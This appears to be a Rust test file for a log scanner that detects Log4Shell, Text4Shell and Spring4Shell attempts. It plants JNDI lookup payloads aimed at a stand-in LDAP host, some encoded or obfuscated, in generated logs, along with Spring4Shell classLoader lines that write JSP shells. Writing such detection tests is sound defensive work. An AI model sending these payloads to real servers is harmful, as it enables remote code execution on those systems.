//! Whole logs: a generated benign log gives no alert, planted payloads are found at their lines
//! (plain, encoded, gzip-compressed), and hostile input ends quickly in an error or a bounded
//! result.

mod common;

use std::io::{self, Read, Write};
use std::time::{Duration, Instant};

use common::{benign, hex};
use quell_hunt::{HuntConfig, Hunter, Source, SourceReport};
use quell_model::hunt::HuntRecord;

/// Size of the generated logs (the 1 GB run is `scripts/bench/hunt`).
const LOG_BYTES: u64 = 24 << 20;

fn attempts_of(report: &SourceReport) -> Vec<(u64, Vec<String>, Vec<String>)> {
    report
        .records
        .iter()
        .filter_map(|r| match r {
            HuntRecord::Attempt(a) => Some((a.line, a.jndi.clone(), a.decode_chain.clone())),
            _ => None,
        })
        .collect()
}

/// A planted line of kind 0 (plain, in an application line), 1 (percent-encoded, in an access-log
/// URI), 2 (`lower` obfuscation, in a JSON value) or 3 (partly percent-encoded, in a User-Agent).
/// `NN` in the payload becomes the line number.
fn planted(kind: u64, line: u64) -> String {
    let plain = String::from_utf8(hex(planted_hex(0))).expect("utf-8");
    let p = match kind {
        0 => plain,
        // %24%7Bjndi%3Aldap%3A%2F%2Fplanted-NN.example%2Fa%7D
        1 => plain.replace('$', "%24").replace('{', "%7B").replace('}', "%7D").replace(':', "%3A").replace('/', "%2F"),
        // ${${lower:j}ndi:${lower:l}dap://planted-NN.example/a}
        2 => plain.replacen("{j", "{${lower:j}", 1).replacen(":l", ":${lower:l}", 1),
        // $%7B${::-j}ndi:ldap://planted-NN.example/a%7D
        _ => {
            let obf = String::from_utf8(hex(planted_hex(1))).expect("utf-8");
            obf.replacen('{', "%7B", 1).replace("/a}", "/a%7D")
        }
    };
    let p = p.replace("NN", &line.to_string());
    match kind {
        1 => format!(
            "198.51.100.7 - - [11/Dec/2021:10:00:00 +0000] \"GET /?q={p} HTTP/1.1\" 404 0 \"-\" \"curl/7.79.1\""
        ),
        2 => format!("{{\"time\":\"2021-12-11T10:00:00Z\",\"level\":\"warn\",\"msg\":\"{p}\"}}"),
        3 => format!("198.51.100.8 - - [11/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"{p}\""),
        _ => format!("2021-12-11 10:00:00,000 WARN  [exec-1] c.e.Login - failed login for user {p}"),
    }
}

fn planted_hex(kind: u64) -> &'static str {
    match kind {
        // ${jndi:ldap://planted-NN.example/a}
        0 => "247b6a6e64693a6c6461703a2f2f706c616e7465642d4e4e2e6578616d706c652f617d",
        // ${${::-j}ndi:ldap://planted-NN.example/a}
        _ => "247b247b3a3a2d6a7d6e64693a6c6461703a2f2f706c616e7465642d4e4e2e6578616d706c652f617d",
    }
}

fn plant_lines(total_hint: u64) -> Vec<u64> {
    let step = total_hint / 9;
    (1..=8).map(|i| i * step + i).collect()
}

fn generate(planted_at: &[u64]) -> Vec<u8> {
    let mut data = Vec::new();
    let plants = planted_at.to_vec();
    benign::write_benign_log(&mut data, LOG_BYTES, 42, benign::Mix::Dense, |n| {
        plants.iter().position(|&p| p == n).map(|i| planted(i as u64 % 4, n))
    })
    .expect("generate");
    data
}

fn hunt_bytes(data: Vec<u8>) -> SourceReport {
    let hunter = Hunter::new(HuntConfig::new());
    let mut report = SourceReport::default();
    let mut reader = HuntConfig::new().reader.wrap(Box::new(io::Cursor::new(data))).expect("wrap");
    hunter.hunt_reader("generated.log", &mut reader, &mut report);
    report
}

#[test]
fn benign_log_is_quiet() {
    let data = generate(&[]);
    let report = hunt_bytes(data);
    let found = attempts_of(&report);
    assert!(found.is_empty(), "false positives: {:?}", &found[..found.len().min(5)]);
    assert_eq!(report.errors, 0);
    assert!(report.stats.lines > 100_000);
}

#[test]
fn planted_payloads_are_found_at_their_lines_plain_and_gzip() {
    let lines = plant_lines(LOG_BYTES / 200);
    let data = generate(&lines);
    let expected: Vec<u64> = lines.clone();

    let check = |report: &SourceReport, what: &str| {
        let found = attempts_of(report);
        let found_lines: Vec<u64> = found.iter().map(|f| f.0).collect();
        assert_eq!(found_lines, expected, "{what}: {found:?}");
        for (line, names, _) in &found {
            assert_eq!(names.len(), 1, "{what}");
            assert!(names[0].contains(&format!("planted-{line}.example")), "{what}: {names:?}");
        }
        // The encoded ones carry their decode chain.
        assert!(found.iter().any(|f| f.2 == ["url"]), "{what}");
    };
    check(&hunt_bytes(data.clone()), "plain");

    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&data).expect("gzip");
    let gz = gz.finish().expect("gzip");
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("access.log.2.gz");
    std::fs::write(&path, &gz).expect("write");
    let hunter = Hunter::new(HuntConfig::new());
    let report = hunter.hunt_source(&Source::File(path));
    check(&report, "gzip");
    assert_eq!(report.stats.bytes, data.len() as u64);

    // A truncated gzip: an error record, and the payloads before the cut are still reported.
    let cut = &gz[..gz.len() / 2];
    let report = hunt_bytes(cut.to_vec());
    assert_eq!(report.errors, 1, "{:?}", report.records.last());
    let found = attempts_of(&report);
    assert!(!found.is_empty() && found.len() < expected.len());
    assert!(found.iter().all(|f| expected.contains(&f.0)));
}

/// A reader of `len` bytes produced by `f(offset)`, without holding them in memory.
struct Synth<F: FnMut(u64) -> u8> {
    pos: u64,
    len: u64,
    f: F,
}

impl<F: FnMut(u64) -> u8> Read for Synth<F> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let n = buf.len().min((self.len - self.pos) as usize);
        for b in &mut buf[..n] {
            *b = (self.f)(self.pos);
            self.pos += 1;
        }
        Ok(n)
    }
}

fn bounded(what: &str, limit: Duration, f: impl FnOnce() -> SourceReport) -> SourceReport {
    let t = Instant::now();
    let r = f();
    assert!(t.elapsed() < limit, "{what} took {:?}", t.elapsed());
    r
}

#[test]
fn hostile_input_is_bounded() {
    let hunter = Hunter::new(HuntConfig::new());
    // 100 MB on one line: `${` every 997 bytes, a payload at the start.
    let head = hex(planted_hex(0));
    let report = bounded("100 MB line", Duration::from_secs(120), || {
        let mut r = Synth {
            pos: 0,
            len: 100 << 20,
            f: |i| {
                if (i as usize) < head.len() {
                    head[i as usize]
                } else if i % 997 == 0 {
                    b'$'
                } else if i % 997 == 1 {
                    b'{'
                } else {
                    b'a'
                }
            },
        };
        let mut rep = SourceReport::default();
        hunter.hunt_reader("long-line", &mut r, &mut rep);
        rep
    });
    assert_eq!(report.stats.lines, 1);
    assert!(attempts_of(&report).iter().any(|a| a.0 == 1));

    // 10,000 nested `${` (closed, and unclosed).
    for closed in [true, false] {
        let mut line = "${".repeat(10_000);
        line.push('x');
        if closed {
            line.push_str(&"}".repeat(10_000));
        }
        bounded("nested", Duration::from_secs(30), || hunt_bytes(line.into_bytes()));
    }

    // 10,000 top-level `${x}` on one line, and an exponential default chain.
    bounded("many lookups", Duration::from_secs(30), || hunt_bytes("${x}".repeat(10_000).into_bytes()));
    let mut expo = String::from("x");
    for _ in 0..40 {
        expo = format!("${{::-{expo}{expo}}}");
        if expo.len() > 1 << 20 {
            break;
        }
    }
    bounded("exponential", Duration::from_secs(30), || hunt_bytes(expo.into_bytes()));

    // 16 MB of binary garbage.
    let mut g = benign::Rng(7);
    let garbage: Vec<u8> = (0..16 << 20).map(|_| g.next() as u8).collect();
    let report = bounded("garbage", Duration::from_secs(60), || hunt_bytes(garbage));
    assert!(attempts_of(&report).is_empty());

    // Commons Text re-substitutes values: a base64 value that decodes to itself wrapped in more
    // lookups, nested 20 deep, and a cycle through defaults.
    let mut inner = String::from("${urlEncoder:x}");
    for _ in 0..20 {
        let b64 = common::b64e(inner.as_bytes());
        inner = format!("${{base64Decoder:{b64}}}{}", "${urlEncoder:%}".repeat(4));
        if inner.len() > 1 << 20 {
            break;
        }
    }
    bounded("text4shell nesting", Duration::from_secs(30), || hunt_bytes(inner.into_bytes()));
    bounded("text4shell cycle", Duration::from_secs(30), || hunt_bytes("${a:-${a}}".repeat(10_000).into_bytes()));

    // Spring4Shell: 100,000 class-loader parameters on one line, and 10,000 writes dropping
    // different files followed by requests for them (bounded tracker, bounded needles).
    let mut spring = String::from("GET /?");
    for i in 0..100_000 {
        spring.push_str(&format!("class.module.classLoader.p{i}=1&"));
    }
    bounded("spring parameters", Duration::from_secs(30), || hunt_bytes(spring.into_bytes()));
    let p = "class.module.classLoader.resources.context.parent.pipeline.first";
    let mut writes = String::new();
    for i in 0..10_000 {
        writes.push_str(&format!(
            "10.0.{}.{} - - [31/Mar/2022:10:00:00 +0000] \"GET /?{p}.prefix=shell{i}&{p}.suffix=.jsp HTTP/1.1\" 200 1 \"-\" \"x\"\n",
            i / 256,
            i % 256
        ));
        writes.push_str(&format!(
            "10.0.0.1 - - [31/Mar/2022:10:00:01 +0000] \"GET /shell{i}.jsp HTTP/1.1\" 200 1 \"-\" \"x\"\n"
        ));
    }
    let report = bounded("spring writes", Duration::from_secs(60), || hunt_bytes(writes.into_bytes()));
    assert!(attempts_of(&report).len() >= 20_000, "every write and every request for a recent drop");
}

#[test]
fn many_attempts_stream_in_batches_across_threads() {
    let dir = tempfile::tempdir().expect("tempdir");
    let line = String::from_utf8(hex(planted_hex(1))).expect("utf-8");
    let mut sources = Vec::new();
    for f in 0..3 {
        let path = dir.path().join(format!("attack-{f}.log"));
        let body: String = (0..10_000).map(|i| line.replace("NN", &i.to_string()) + "\n").collect();
        std::fs::write(&path, body).expect("write");
        sources.push(Source::File(path));
    }
    for threads in [1, 2] {
        let hunter = Hunter::new(HuntConfig::new());
        let (mut records, mut complete, mut attempts, mut biggest) = (0, 0, 0, 0);
        hunter.hunt_sources(&sources, threads, |r| {
            records += r.records.len();
            biggest = biggest.max(r.records.len());
            complete += usize::from(r.complete);
            attempts += r.attempts;
        });
        assert_eq!((records, complete, attempts), (30_000, 3, 30_000), "threads {threads}");
        assert!(biggest <= quell_hunt::RECORD_BATCH, "batches bound memory");
    }
}
